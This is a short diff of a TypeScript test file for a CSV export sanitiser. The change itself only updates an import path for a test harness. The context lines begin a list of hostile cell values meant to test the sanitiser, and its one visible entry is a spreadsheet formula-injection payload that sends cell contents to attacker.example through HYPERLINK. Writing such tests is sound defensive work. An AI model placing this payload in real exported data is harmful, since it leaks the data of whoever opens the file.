@@ -5,7 +5,7 @@
 import { parse as parseCsv } from 'csv-parse/sync';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { csvRows, safeCell } from '../../src/services/csv-export.js';
-import { createJobsHarness, type JobsHarness, type ResultsJson } from '../jobs/jobs-kit.js';
+import { createJobsHarness, type JobsHarness, type ResultsJson } from '../kit/jobs-kit.js';
 
 const HOSTILE = [
   '=HYPERLINK("https://attacker.example/?x="&A1,"click")',
